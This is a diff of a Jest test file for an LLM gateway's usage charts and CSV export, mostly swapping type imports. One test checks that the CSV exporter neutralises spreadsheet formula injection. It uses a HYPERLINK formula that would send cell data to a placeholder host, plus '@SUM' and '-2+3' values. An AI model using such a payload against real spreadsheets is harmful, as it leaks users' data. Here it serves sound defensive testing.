@@ -1,10 +1,10 @@
 import { describe, expect, it } from '@jest/globals';
-import type { SeriesPoint, UsageRecordView } from '../src/lib/admin-types.js';
+import type { UsageSeriesPoint } from '@modelgate/gateway/admin-types';
 import { seriesTotals, toChartData } from '../src/lib/series-table.js';
-import { usageCsv } from '../src/lib/usage-csv.js';
+import { usageCsv, type UsageCsvRecord } from '../src/lib/usage-csv.js';
 
 const HOUR = 3_600_000;
-const point = (bucketStart: number, group: string, requests: number, errors = 0): SeriesPoint => ({
+const point = (bucketStart: number, group: string, requests: number, errors = 0): UsageSeriesPoint => ({
   bucketStart, group, requests, errors, promptTokens: requests * 10, completionTokens: requests, costUsd: requests / 100, latencyP50Ms: 5, latencyP95Ms: 9, latencyP99Ms: 9,
 });
 
@@ -27,9 +27,9 @@ describe('toChartData', () => {
 
 describe('usageCsv', () => {
   it('writes a header and one RFC 4180 line per record, quoting what needs it', () => {
-    const record: UsageRecordView = {
+    const record: UsageCsvRecord = {
       requestId: 'req,"1"', keyId: 'key_1', model: 'gpt-test', deployment: 'openai/gpt-4.1-mini', endpoint: 'chat', status: 200, outcome: 'completed',
-      promptTokens: 12, completionTokens: 3, costUsd: 0.0001, latencyMs: 41.6, stream: false, createdAt: Date.UTC(2025, 0, 10, 12),
+      promptTokens: 12, completionTokens: 3, costUsd: 0.0001, latencyMs: 41.6, createdAt: Date.UTC(2025, 0, 10, 12),
     };
     expect(usageCsv([record]).split('\r\n')).toEqual([
       'time,request_id,key_id,endpoint,model,deployment,status,outcome,prompt_tokens,completion_tokens,cost_usd,latency_ms',
@@ -39,9 +39,9 @@ describe('usageCsv', () => {
   });
 
   it('turns a client-chosen text that a spreadsheet would run as a formula into text (issue 27)', () => {
-    const record: UsageRecordView = {
+    const record: UsageCsvRecord = {
       requestId: '-2+3', keyId: 'key_1', model: '=HYPERLINK("http://x.example/?"&A1,"ok")', deployment: '@SUM(A1)', endpoint: 'chat', status: 200, outcome: 'completed',
-      promptTokens: 12, completionTokens: 3, costUsd: 0.5, latencyMs: 2, stream: false, createdAt: Date.UTC(2025, 0, 10, 12),
+      promptTokens: 12, completionTokens: 3, costUsd: 0.5, latencyMs: 2, createdAt: Date.UTC(2025, 0, 10, 12),
     };
     expect(usageCsv([record]).split('\r\n')[1]).toBe(`2025-01-10T12:00:00.000Z,'-2+3,key_1,chat,"'=HYPERLINK(""http://x.example/?""&A1,""ok"")",'@SUM(A1),200,completed,12,3,0.5,2`);
   });
